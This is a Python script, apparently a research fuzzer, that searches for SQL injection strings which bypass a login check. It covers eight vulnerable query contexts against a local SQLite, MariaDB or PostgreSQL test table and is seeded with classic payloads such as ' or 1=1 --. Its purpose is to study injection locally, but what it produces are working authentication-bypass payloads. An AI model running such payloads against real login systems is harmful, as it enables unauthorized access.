#!/usr/bin/env python3
"""SQL that lets somebody in without the password: what is put into a login's query, and run.

    sql.py DATABASE CONTEXT SECONDS

The database is `sqlite` (Python's own), `maria:SOCKET` (needs pymysql, user root) or `postgres:DIRECTORY` (needs psycopg2,
user postgres), the last two with an empty database `logins`."""

import sys

from search import arguments, search

CONTEXTS = {
    "string": ("select count(*) from users where name='", "' and pw='zz'"),
    "group": ("select count(*) from users where (name='", "' and pw='zz')"),
    "like": ("select count(*) from users where name like '%", "%' and pw='zz'"),
    "last": ("select count(*) from users where pw='zz' and name='", "'"),
    "double": ('select count(*) from users where name="', '" and pw="zz"'),
    "number": ("select count(*) from users where pw='zz' and id=", ""),
    "bracket": ("select count(*) from users where (pw='zz' and id=", ")"),
    "list": ("select count(*) from users where pw='zz' and id in (", ")"),
}
COMMON = (
    "' ' ' or and = 1 0 x 2 is not null -- /* */ /**/ || && < > + - * / % in ( ) like between ! != ~ & | , union select "
    "values name pw exists case when then end isnull notnull collate distinct true false . 1. 1e0 0x1 '' a '% <=> << ^ ; "
    "as from users limit offset order by having group using escape"
).split() + [" "] * 3 + ["\t", "\n"]
OWN = {
    "sqlite": "glob nocase rowid match regexp == <> -> ->> cast text within desc abs length iif X' window over filter".split(),
    "maria": (
        "# rlike regexp div mod xor binary ` `name` @ @@version @a:= /*! /*!1 interval row utf8mb4_bin _utf8 n' b' \" charset "
        "now pi if procedure into for update soundex convert char member of 'x' unknown \\"
    ).split() + ["-- ", "--\t", "--\n", "\x0b", "\x0c", "sounds like", "is true"],
    "postgres": (
        "::text ::int :: similar to ilike ~~ !~ @> any all array [ ] row some overlaps e' U&' $$ $1 b' at time zone symmetric "
        "unknown @ ::bool cast only returning fetch for update of ? #>"
    ).split() + ["-- ", "is true", "IS DISTINCT FROM", 'collate "C"'],
}
SEEDS = ["'| |or| |1|=|1| |--| ", "'| |or| |'", "1| |or| |1|=|1", "1| |or| |true", "1|)| |or| |(|1|=|1"]


def connect(database):
    """A function that runs a statement and gives its first value; nothing if the database refuses it."""
    kind, _, place = database.partition(":")
    if kind == "sqlite":
        import sqlite3

        cursor = sqlite3.connect(":memory:", isolation_level=None).cursor()
    elif kind == "maria":
        import pymysql

        cursor = pymysql.connect(unix_socket=place, user="root", database="logins", autocommit=True).cursor()
    elif kind == "postgres":
        import psycopg2

        connection = psycopg2.connect(host=place, user="postgres", dbname="logins")
        connection.autocommit = True
        cursor = connection.cursor()
    else:
        sys.exit("expected `sqlite`, `maria:SOCKET` or `postgres:DIRECTORY`")

    def first(statement):
        try:
            cursor.execute(statement)
            row = cursor.fetchone()
            return row and row[0]
        except Exception:  # Most of what is tried is no SQL, and each driver says so in its own ways.
            return None

    first("create table users(id integer primary key, name varchar(40), pw varchar(40))")
    first("insert into users values(5,'admin','p1'),(6,'bob','p2'),(7,'carol','p3')")
    return kind, first


def main():
    first, context, seconds = arguments(__doc__, CONTEXTS)
    kind, value = connect(first[0] if first else "")
    before, behind = CONTEXTS[context]
    quote = {"double": '"', "number": "", "bracket": "", "list": ""}.get(context, "'")
    fronts = [["", quote], ["x", quote], ["admin ", quote]] if quote else [["1"], ["0"], ["-1"], []]
    search(
        lambda text: bool(value(before + text + behind)),
        COMMON + OWN[kind],
        fronts,
        [seed.split("|") for seed in SEEDS],
        seconds,
    )


main()
